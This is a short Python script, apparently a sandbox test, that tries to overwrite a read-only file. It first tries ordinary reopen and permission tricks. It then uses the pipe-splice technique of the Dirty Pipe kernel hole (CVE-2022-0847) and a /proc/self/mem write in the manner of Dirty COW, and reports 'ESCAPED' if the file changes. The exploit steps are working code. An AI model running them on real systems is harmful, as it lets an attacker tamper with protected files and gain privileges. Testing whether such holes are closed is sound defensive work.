# Writes to a file that may only be read, in the ways of known holes of the kernel: through its
# page in a pipe (CVE-2022-0847) and through its page in memory (CVE-2016-5195).
import mmap
import os

from attempt import attempt

PATH = "/lent/file"
before = open(PATH, "rb").read()
for flags in (os.O_RDWR, os.O_WRONLY | os.O_APPEND, os.O_RDONLY | os.O_TRUNC):
    attempt("open", os.open, PATH, flags)
file = os.open(PATH, os.O_RDONLY)
attempt("reopen", os.open, f"/proc/self/fd/{file}", os.O_RDWR)
attempt("times", os.utime, PATH)
attempt("mode", os.fchmod, file, 0o777)

reader, writer = os.pipe()
filled = os.write(writer, b"x" * 65536)
os.read(reader, filled)  # every buffer of the pipe has been merged into once
os.splice(file, writer, 1, offset_src=0)
os.write(writer, b"overwritten")

shared = mmap.mmap(file, 0, flags=mmap.MAP_SHARED, prot=mmap.PROT_READ)
maps = [line for line in open("/proc/self/maps") if line.endswith(f"{PATH}\n")]
memory = os.open("/proc/self/mem", os.O_RDWR)
attempt("memory", os.pwrite, memory, b"overwritten", int(maps[0].split("-")[0], 16))
print("ESCAPED" if open(PATH, "rb").read() != before else "unchanged")
